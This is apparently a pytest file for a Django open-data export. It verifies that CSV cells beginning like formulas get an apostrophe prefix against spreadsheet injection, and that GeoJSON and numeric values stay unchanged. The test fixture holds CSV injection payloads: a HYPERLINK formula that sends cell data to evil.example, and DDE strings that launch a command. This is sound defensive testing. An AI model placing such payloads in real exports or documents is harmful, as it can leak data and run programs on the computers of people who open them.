"""CSV cells that a spreadsheet would run as formulas are neutralised with a leading
apostrophe; numbers and the GeoJSON are left as they are."""

import csv
import io

import pytest
from django.urls import reverse

from initiatives.models import Initiative
from tests.factories import make_initiative
from tests.opendata.helpers import body, get_json

pytestmark = pytest.mark.django_db

FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")',
    "short_description": "+cmd|' /C calc'!A0",
    "address": "-2+3+cmd|' /C calc'!A0",
    "description": "@SUM(1+1)*cmd|' /C calc'!A0",
    "source_id": "\t=1+1",
}


def csv_row(client, pk) -> dict:
    response = client.get(reverse("opendata:initiatives-csv"))
    rows = csv.DictReader(io.StringIO(body(response).decode("utf-8")))
    return next(row for row in rows if row["id"] == str(pk))


def test_formula_cells_are_prefixed_with_an_apostrophe(client):
    initiative = make_initiative(**FORMULAS, website="https://example.net")
    row = csv_row(client, initiative.pk)

    for name, value in FORMULAS.items():
        assert row[name] == "'" + value, name
    assert row["website"] == "https://example.net"


def test_a_carriage_return_at_the_start_is_neutralised_too(client):
    initiative = make_initiative(description="\r=1+1")

    assert csv_row(client, initiative.pk)["description"] == "'\r=1+1"


def test_numbers_keep_their_sign(client):
    initiative = make_initiative()
    row = csv_row(client, initiative.pk)

    assert float(row["lon"]) < 0  # Gironde lies west of Greenwich
    assert not row["lon"].startswith("'")


def test_the_geojson_carries_the_values_as_they_are(client):
    initiative = make_initiative(**FORMULAS)
    document = get_json(client, reverse("opendata:initiatives-geojson"))
    feature = next(f for f in document["features"] if f["id"] == initiative.pk)

    for name, value in FORMULAS.items():
        assert feature["properties"][name] == value


def test_a_neutralised_export_imports_back_as_entered(client, tmp_path):
    from django.core.management import call_command

    original = make_initiative(name="=1+1 jardin", address="+33 rue")
    path = tmp_path / "initiatives.csv"
    path.write_bytes(body(client.get(reverse("opendata:initiatives-csv") + "?territory=33063")))
    call_command("import_initiatives", str(path), source="again", verbosity=0, stdout=io.StringIO())

    copy = Initiative.objects.get(source="again", source_id=str(original.pk))
    assert (copy.name, copy.address) == ("=1+1 jardin", "+33 rue")


def test_the_territory_figures_csv_is_neutralised_too(client):
    from territories.models import Territory

    Territory.objects.filter(level="commune", code="33063").update(name="=Bordeaux")
    response = client.get(reverse("radar:territory-csv", args=["33063"]))
    rows = list(csv.reader(io.StringIO(response.content.decode())))

    assert next(r[:2] for r in rows if r and r[0] == "33063") == ["33063", "'=Bordeaux"]


def test_the_data_page_explains_it(client):
    page = client.get(reverse("opendata:index")).content.decode()

    assert "prefixed with an apostrophe" in page
